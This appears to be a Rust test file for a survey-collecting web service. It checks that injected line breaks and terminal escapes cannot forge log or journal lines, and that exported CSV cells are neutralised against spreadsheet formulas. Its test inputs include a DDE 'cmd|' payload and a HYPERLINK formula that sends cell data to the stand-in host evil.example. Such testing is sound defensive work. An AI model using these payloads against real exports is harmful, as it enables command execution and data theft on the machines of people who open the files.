//! Text that wants to be more than text: a line of the log, a line of the journal, a formula.

use crate::client;
use crate::refusals::{EVENTS, JSON};
use crate::shop::{Shop, response};
use serde_json::{Value, json};

/// What stands at the beginning of a line only if an injection worked.
const FORGED: &str = "FORGED";

/// Breaks of a line as JSON, terminals and log readers know them, and a terminal's own orders.
const BREAKS: [&str; 7] = [
    "\n",
    "\r\n",
    "\r",
    "\u{2028}",
    "\u{85}",
    "\u{b}",
    "\u{1b}[2K\r",
];

#[test]
fn nobody_writes_a_line_into_the_log_or_the_journal() {
    let shop = Shop::new();
    let mut number = 0;
    for lines_end in BREAKS {
        number += 1;
        let text = format!("fine{lines_end}{FORGED} {{\"type\":\"response\"}}{lines_end}");
        let mut event = response(number);
        event["answers"] = json!({"comment": text});
        event["attributes"] = json!({"note": text, text.as_str(): 1});
        event["unknown"] = json!({text.as_str(): [text]});
        event["page"] = json!({"path": format!("/{text}")});
        assert_eq!(shop.hears(&event).status, 200, "{text:?}");
        for field in ["survey", "trigger", "channel", "language", "visitor"] {
            let mut event = response(number);
            event[field] = json!(text);
            let answer = shop.hears(&event);
            // U+2028 is no control character.
            let is_answered = matches!(answer.status, 200 | 422);
            assert!(is_answered, "{field}: {answer:?}");
            assert!(
                !answer.text().contains(['\n', '\r', '\u{1b}']),
                "{answer:?}"
            );
        }
        let sent: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let there = shop.gets(&format!("/v1/sites/{sent}/surveys"), &[]);
        assert_eq!(there.status, 404, "{there:?}");
        assert_eq!(shop.gets(&format!("/{sent}"), &[]).status, 404);
        // A header can break a line only in a way that the log would have to undo.
        let headers = [JSON, ("origin", "https://shop.example\t\u{9b}2K FORGED")];
        let answer = client::request(shop.address, "POST", EVENTS, &headers, b"{}");
        assert_eq!(answer.status, 403);
    }
    let (_, talk, folder) = shop.closes();
    for line in talk {
        assert!(!line.contains(FORGED), "in the log: {line:?}");
    }
    let lines = folder.lines();
    assert!(lines.len() >= BREAKS.len(), "{lines:?}");
    for line in lines {
        let line: Value = serde_json::from_str(&line).expect("a line that can be read");
        assert_eq!(line["type"], "response");
    }
}

#[test]
fn no_answer_becomes_a_formula_of_a_spreadsheet() {
    let shop = Shop::new();
    let formulas = [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
    ];
    for (number, formula) in (0..).zip(formulas) {
        let mut event = response(number);
        event["answers"] = json!({"comment": formula});
        event["attributes"] = json!({"plan": formula});
        event["page"] = json!({"path": "/=1+1"});
        assert_eq!(shop.hears(&event).status, 200, "{formula:?}");
    }
    let folder = shop.dies();
    for arguments in [
        &["export", "--format", "csv"][..],
        &["report", "--format", "csv", "--by", "plan", "--all"],
    ] {
        let (code, text, talk) = folder.runs(arguments);
        assert_eq!(code, Some(0), "{talk}");
        let mut cells = 0;
        for record in csv::Reader::from_reader(text.as_bytes()).records() {
            for cell in &record.expect("a record") {
                let is_number = cell.parse::<f64>().is_ok();
                let is_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']);
                assert!(is_number || !is_formula, "{arguments:?}: {cell:?}");
                cells += usize::from(cell.contains("cmd|"));
            }
        }
        assert!(cells > 0, "{arguments:?} tells of no formula:\n{text}");
    }
}
